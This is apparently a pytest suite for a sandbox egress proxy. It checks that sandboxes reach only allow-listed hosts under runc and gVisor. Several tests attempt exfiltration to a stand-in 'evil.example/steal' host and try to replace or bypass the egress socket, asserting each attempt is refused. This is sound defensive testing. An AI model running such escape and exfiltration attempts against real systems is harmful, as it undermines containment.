"""A sandbox whose network allows hosts reaches them through the host's egress proxy, and
nothing else; a sandbox with network "none" has no proxy, no socket and no way out. Under
runc and gVisor, with real servers on the host's 127.0.0.1."""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import AsyncIterator, Callable, Coroutine
from pathlib import Path
from typing import Any

import pytest
from tether.contracts import SandboxSpec
from tether.egress.proxy import EgressProxy
from tether.sandbox.manager import SandboxBroken
from tether.sandbox.workspace import put_file

from tests.egress.conftest import egress  # noqa: F401 (the proxy, as a worker runs it)
from tests.egress.git_server import README, git_server, make_repository
from tests.egress.package_index import PROBE, pip_zip, write_index
from tests.egress.servers import directory_server, http_server, make_ca
from tests.helpers import sandboxes
from tests.sandbox.attacks import RUNTIMES, require
from tests.sandbox.direct import call, direct_labels

FETCH = """
import json, os, ssl, sys, urllib.error, urllib.request
url, ca = sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else None
context = ssl.create_default_context(cafile=ca) if ca else None
try:
    with urllib.request.urlopen(url, timeout=20, context=context) as response:
        print(json.dumps([response.status, response.read().decode()]))
except urllib.error.HTTPError as error:
    print(json.dumps([error.code, error.read().decode()]))
except urllib.error.URLError as error:
    print(json.dumps([0, str(error.reason)]))
"""
"""A tool that fetches a URL the way most tools do: urllib, reading the proxy variables."""

HOST = "127.0.0.2"
"""Where the servers listen: the host's loopback, but not the sandbox's NO_PROXY names."""
Sandbox = Callable[..., Coroutine[Any, Any, str]]


@pytest.fixture
async def egress_sandbox(egress: EgressProxy) -> AsyncIterator[Sandbox]:  # noqa: F811
    made: list[str] = []

    async def make(runtime: str, *allow: str) -> str:
        name = f"tether-test-{uuid.uuid4().hex[:12]}"
        spec = SandboxSpec(memory_mb=128, pids=64, disk_mb=16, runtime=require(runtime),
                           network={"allow": list(allow)} if allow else "none")
        directory = await egress.open(name, spec.network) if allow else None
        container = await asyncio.to_thread(sandboxes().create, spec, direct_labels(), name=name,
                                            egress_dir=directory)
        made.append(container.id)
        if directory is not None:
            egress.made(name, container.id)
        await call(container.id, f"cat > /workspace/fetch.py <<'EOF'\n{FETCH}\nEOF")
        return str(container.id)

    yield make
    for container_id in made:
        await asyncio.to_thread(sandboxes().remove, container_id)


async def fetch(sandbox: str, url: str, *extra: str) -> tuple[int, str]:
    result = await call(sandbox, " ".join(["python3 /workspace/fetch.py", url, *extra]), timeout=30)
    assert result.exit_code == 0, result.stderr
    status, body = json.loads(result.stdout)
    return status, body


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_an_allowed_host_is_reached_from_the_sandbox_over_http_and_https(
        egress_sandbox: Sandbox, egress: EgressProxy, runtime: str, tmp_path: Path) -> None:  # noqa: F811
    tls, ca = make_ca(tmp_path)
    with http_server(host=HOST) as port, http_server(tls, host=HOST) as secure:
        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}", f"{HOST}:{secure}")
        assert await fetch(sandbox, f"http://{HOST}:{port}/hello") == (
            200, f"hello from {port}, host {HOST}:{port}")
        await call(sandbox, f"cat > /workspace/ca.pem <<'EOF'\n{ca.read_text()}EOF")
        assert await fetch(sandbox, f"https://{HOST}:{secure}/hello", "/workspace/ca.pem") == (
            200, f"hello from {secure}, host {HOST}:{secure}")
        # Under runc the proxy accepts the tools' connections itself; gVisor's sockets can't
        # be passed to the host, so its executor relays them.
        assert egress.handed(sandbox) == (runtime == "runc")


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_a_host_not_on_the_list_is_refused_from_the_sandbox_with_a_403_naming_it(
        egress_sandbox: Sandbox, runtime: str) -> None:
    with http_server(host=HOST) as port:
        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}")
        status, body = await fetch(sandbox, "http://evil.example/steal")
        assert status == 403 and "evil.example:80 refused by this run's network allow-list" in body
        status, body = await fetch(sandbox, "https://evil.example/steal")
        assert status == 0 and "403" in body  # urllib names the refused tunnel's status only


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_a_sandbox_that_skips_the_proxy_reaches_nothing(egress_sandbox: Sandbox, runtime: str) -> None:
    with http_server(host=HOST) as port:
        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}")
        # Direct sockets to the allowed server, with the variables cleared: the sandbox has a
        # loopback of its own and no route anywhere else.
        for url in (f"http://{HOST}:{port}/hello", f"http://127.0.0.1:{port}/hello"):
            result = await call(sandbox, f"env -u http_proxy -u HTTP_PROXY python3 /workspace/fetch.py {url}",
                                timeout=30)
            status, reason = json.loads(result.stdout)
            assert status == 0 and ("refused" in reason.lower() or "unreachable" in reason.lower()), reason


RAW = """
import socket, sys
for request in sys.argv[1:]:
    with socket.socket(socket.AF_UNIX) as proxy:
        proxy.connect("/run/tether-egress/egress.sock")
        proxy.sendall(request.encode().decode("unicode_escape").encode())
        print(proxy.recv(65536).decode().split("\\r\\n")[0])
"""


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_a_tool_that_speaks_to_the_socket_itself_gets_its_runs_policy_and_no_more(
        egress_sandbox: Sandbox, runtime: str) -> None:
    with http_server(host=HOST) as port, http_server() as unlisted:
        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}")
        await call(sandbox, f"cat > /workspace/raw.py <<'EOF'\n{RAW}\nEOF")
        requests = [f"GET http://{HOST}:{port}/hello HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
                    f"CONNECT 127.0.0.1:{unlisted} HTTP/1.1\\r\\n\\r\\n",
                    f"GET http://127.0.0.1:{unlisted}/hello HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"]
        result = await call(sandbox, "python3 /workspace/raw.py " + " ".join(f"'{r}'" for r in requests))
        assert result.stdout.splitlines() == [
            "HTTP/1.1 200 OK", "HTTP/1.1 403 Forbidden", "HTTP/1.1 403 Forbidden"], result.stderr
        # The socket's directory is root's and mounted read-only: no tool can put another
        # socket in its place.
        replaced = await call(sandbox, "rm -f /run/tether-egress/egress.sock; touch /run/tether-egress/x")
        assert "cannot remove" in replaced.stderr and "cannot touch" in replaced.stderr
        again = await call(sandbox, f"python3 /workspace/raw.py '{requests[0]}'")
        assert again.stdout.splitlines() == ["HTTP/1.1 200 OK"], again.stderr


HAND_OVER = """
import socket
mine = socket.create_server(("127.0.0.1", 0))
with socket.socket(socket.AF_UNIX) as proxy:
    proxy.connect("/run/tether-egress/listener.sock")
    try:
        socket.send_fds(proxy, [b"L"], [mine.fileno()])
        print(repr(proxy.recv(64)))
    except OSError as error:
        print("not sent:", error.strerror)
"""


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_a_tool_that_hands_the_proxy_a_listener_of_its_own_is_refused(
        egress_sandbox: Sandbox, egress: EgressProxy, runtime: str) -> None:  # noqa: F811
    with http_server(host=HOST) as port:
        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}")
        await call(sandbox, f"cat > /workspace/hand.py <<'EOF'\n{HAND_OVER}\nEOF")
        result = await call(sandbox, "python3 /workspace/hand.py")
        # runc: the proxy took the executor's already and closes on this one; gVisor: the
        # descriptor can't leave the sandbox at all.
        assert result.stdout.strip() == ("b''" if runtime == "runc" else "not sent: Invalid argument"), result
        assert egress.handed(sandbox) == (runtime == "runc")
        assert await fetch(sandbox, f"http://{HOST}:{port}/hello") == (
            200, f"hello from {port}, host {HOST}:{port}")


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_a_sandbox_with_network_none_has_no_proxy_variables_and_no_socket(
        egress_sandbox: Sandbox, runtime: str) -> None:
    sandbox = await egress_sandbox(runtime)
    result = await call(sandbox, "env | grep -ci proxy;"
                                 " python3 -c 'import os; print(os.path.exists(\"/run/tether-egress\"))'")
    assert result.stdout.split() == ["0", "False"]


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_an_allowing_sandbox_gives_its_tools_the_standard_proxy_variables(
        egress_sandbox: Sandbox, runtime: str) -> None:
    sandbox = await egress_sandbox(runtime, "evil.example")
    result = await call(sandbox, "env | grep -i proxy | sort")
    assert result.stdout.split() == [
        "ALL_PROXY=http://127.0.0.1:3128", "HTTPS_PROXY=http://127.0.0.1:3128",
        "HTTP_PROXY=http://127.0.0.1:3128", "NO_PROXY=localhost,127.0.0.1",
        "all_proxy=http://127.0.0.1:3128", "http_proxy=http://127.0.0.1:3128",
        "https_proxy=http://127.0.0.1:3128", "no_proxy=localhost,127.0.0.1"]


async def test_a_sandbox_is_made_only_with_the_egress_socket_its_network_calls_for(
        egress: EgressProxy, docker_engine: Any) -> None:  # noqa: F811
    allowing = SandboxSpec(network={"allow": ["evil.example"]})
    directory = await egress.open("tether-test-mismatch", allowing.network)
    with pytest.raises(SandboxBroken, match="no egress socket was opened for it"):
        sandboxes().create(allowing, direct_labels(), name=f"tether-test-{uuid.uuid4().hex[:12]}")
    with pytest.raises(SandboxBroken, match='network "none" gets no egress socket'):
        sandboxes().create(SandboxSpec(), direct_labels(), name=f"tether-test-{uuid.uuid4().hex[:12]}",
                           egress_dir=directory)


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_pip_installs_a_package_from_an_allowed_index_through_the_proxy(
        egress_sandbox: Sandbox, egress: EgressProxy, runtime: str, tmp_path: Path) -> None:  # noqa: F811
    write_index(tmp_path)
    with directory_server(tmp_path, host=HOST) as port:
        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}")
        await asyncio.to_thread(put_file, sandboxes(), sandbox, "pip.zip", pip_zip())
        result = await call(sandbox, f"python3 pip.zip install --disable-pip-version-check --no-cache-dir"
                                     f" --index-url http://{HOST}:{port}/simple/ --target lib {PROBE}"
                                     " && PYTHONPATH=lib python3 -c"
                                     " 'import tetherprobe; print(tetherprobe.HELLO)'",
                            timeout=120)
        assert result.stdout.splitlines()[-1] == "installed through the egress proxy", result.stderr
        refused = await call(sandbox, "python3 pip.zip download --disable-pip-version-check --no-cache-dir"
                                      " --retries 0 --trusted-host evil.example"
                                      " --index-url http://evil.example/simple/ -d dl tetherprobe",
                             timeout=120)
        assert refused.exit_code != 0 and "No matching distribution found" in refused.stderr
        await egress.settle()
        assert [(d.destination, d.allowed) for d in egress.take(sandbox)][-1] == ("evil.example:80", False)


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_git_clones_a_repository_from_an_allowed_server_through_the_proxy(
        egress_sandbox: Sandbox, egress: EgressProxy, runtime: str, tmp_path: Path) -> None:  # noqa: F811
    make_repository(tmp_path)
    with git_server(tmp_path, host=HOST) as port, git_server(tmp_path, host=HOST) as unlisted:
        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}")
        cloned = await call(sandbox, f"git clone -q http://{HOST}:{port}/repo.git && cat repo/README",
                            timeout=60)
        assert cloned.exit_code == 0 and cloned.stdout == README, cloned.stderr
        refused = await call(sandbox, f"git clone -q http://{HOST}:{unlisted}/repo.git other", timeout=60)
        assert refused.exit_code != 0 and "returned error: 403" in refused.stderr, refused.stderr
        await egress.settle()
        decisions = [(d.destination, d.allowed) for d in egress.take(sandbox)]
        assert (f"{HOST}:{port}", True) in decisions
        assert decisions[-1] == (f"{HOST}:{unlisted}", False)


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_git_clones_over_https_through_the_proxys_tunnel_checking_the_servers_certificate(
        egress_sandbox: Sandbox, runtime: str, tmp_path: Path) -> None:
    tls, ca = make_ca(tmp_path)
    make_repository(tmp_path / "served")
    with git_server(tmp_path / "served", host=HOST, tls=tls) as port:
        sandbox = await egress_sandbox(runtime, f"{HOST}:{port}")
        await call(sandbox, f"cat > /workspace/ca.pem <<'EOF'\n{ca.read_text()}EOF")
        cloned = await call(sandbox, f"GIT_SSL_CAINFO=/workspace/ca.pem git clone -q"
                                     f" https://{HOST}:{port}/repo.git && cat repo/README", timeout=60)
        assert cloned.exit_code == 0 and cloned.stdout == README, cloned.stderr
        # The tunnel is the tool's own TLS: a server its trust store doesn't vouch for is refused.
        untrusted = await call(sandbox, f"git clone -q https://{HOST}:{port}/repo.git other", timeout=60)
        assert untrusted.exit_code != 0 and "certificate" in untrusted.stderr.lower(), untrusted.stderr


@pytest.mark.parametrize("runtime", RUNTIMES)
async def test_a_sandbox_whose_proxy_is_gone_is_told_so_with_a_503(
        egress_sandbox: Sandbox, egress: EgressProxy, runtime: str) -> None:  # noqa: F811
    sandbox = await egress_sandbox(runtime, "evil.example")
    await egress.close(sandbox)  # as when its worker, and so the worker's proxy, went away
    status, body = await fetch(sandbox, "http://evil.example/")
    assert status == 503 and "tether egress: the host's egress proxy is not there" in body
